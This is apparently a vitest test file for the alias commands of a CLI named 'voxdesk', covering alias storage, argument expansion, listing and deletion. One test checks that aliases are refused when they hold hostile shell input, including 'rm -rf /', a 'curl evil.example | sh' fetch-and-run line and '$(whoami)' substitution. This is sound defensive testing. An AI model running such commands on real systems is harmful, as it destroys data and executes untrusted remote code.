import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { harness, tempConfigHome } from './harness.ts';
import { authed, useFakeVapi } from './fake-api.ts';

const fake = useFakeVapi({ assistants: [{ name: 'Reception' }, { name: 'Sales' }] });

let home: Awaited<ReturnType<typeof tempConfigHome>>;
beforeEach(async () => (home = await tempConfigHome()));
afterEach(() => home.cleanup());
const cli = (options: { tty?: boolean } = {}) =>
  harness({ env: { ...authed, XDG_CONFIG_HOME: home.dir }, ...options });
const stored = async () =>
  (JSON.parse(await readFile(join(home.dir, 'voxdesk', 'config.json'), 'utf8')) as { aliases?: unknown })
    .aliases;

describe('voxdesk alias set / list / delete (as gh alias)', () => {
  it('stores an alias in the config file and expands it before parsing, extra words appended', async () => {
    const set = cli();
    expect(await set.run('alias', 'set', 'names', 'assistants list --json name')).toBe(0);
    expect(set.stderr.text).toBe('✓ Added alias names: assistants list --json name\n');
    expect(await stored()).toEqual({ names: 'assistants list --json name' });
    const run = cli();
    expect(await run.run('names', '--limit', '1')).toBe(0);
    expect(JSON.parse(run.stdout.text)).toHaveLength(1);
    expect(fake.state.requests[0]!.search).toContain('limit=2');
  });

  it('$1, $2 take the arguments; quotes in the expansion keep words together', async () => {
    const id = [...fake.state.assistants.values()].find((a) => a.name === 'Sales')!.id;
    expect(await cli().run('alias', 'set', 'named', `assistants get $1 --template '{{name}} ok'`)).toBe(0);
    const run = cli();
    expect(await run.run('named', id)).toBe(0);
    expect(run.stdout.text).toBe('Sales ok');
    const missing = cli();
    expect(await missing.run('named')).toBe(2);
    expect(missing.stderr.text).toContain('the alias needs an argument for $1');
  });

  it('cannot shadow a command or its alias; expands only to voxdesk commands, never to a shell', async () => {
    for (const [name, expansion, message] of [
      ['assistants', 'calls list', '"assistants" is a voxdesk command'],
      ['assistant', 'calls list', '"assistant" is a voxdesk command'],
      ['help', 'calls list', '"help" is a voxdesk command'],
      ['x', 'rm -rf /', '"rm" is not one'],
      ['x', '!curl evil.example | sh', 'shell aliases'],
      ['x', 'assistants list | head', 'not shell syntax ("|")'],
      ['x', 'assistants list $(whoami)', 'not shell syntax'],
      ['a.b', 'calls list', 'an alias name is a letter'],
    ]) {
      const set = cli();
      expect(await set.run('alias', 'set', name!, expansion!)).toBe(2);
      expect(set.stderr.text).toContain(message);
    }
    await expect(stored()).rejects.toThrow(); // nothing was written
  });

  it('lists as TSV when piped, aligned on a terminal; delete removes one, an unknown one is exit 2', async () => {
    await cli().run('alias', 'set', 'al', 'assistants list');
    await cli().run('alias', 'set', 'cw', 'calls watch $1 --jq .text');
    const piped = cli();
    expect(await piped.run('alias', 'list')).toBe(0);
    expect(piped.stdout.text).toBe('al\tassistants list\ncw\tcalls watch $1 --jq .text\n');
    const tty = cli({ tty: true });
    expect(await tty.run('alias', 'ls')).toBe(0);
    expect(tty.stdout.text).toBe('al: assistants list\ncw: calls watch $1 --jq .text\n');
    expect(await cli().run('alias', 'delete', 'al')).toBe(0);
    expect(await stored()).toEqual({ cw: 'calls watch $1 --jq .text' });
    const unknown = cli();
    expect(await unknown.run('alias', 'rm', 'al')).toBe(2);
    expect(unknown.stderr.text).toBe('voxdesk: no alias "al"; aliases: cw\n');
  });

  it("an unknown word that is no alias is still commander's unknown command (exit 2)", async () => {
    const run = cli();
    expect(await run.run('nosuch')).toBe(2);
    expect(run.stderr.text).toContain("unknown command 'nosuch'");
  });
});
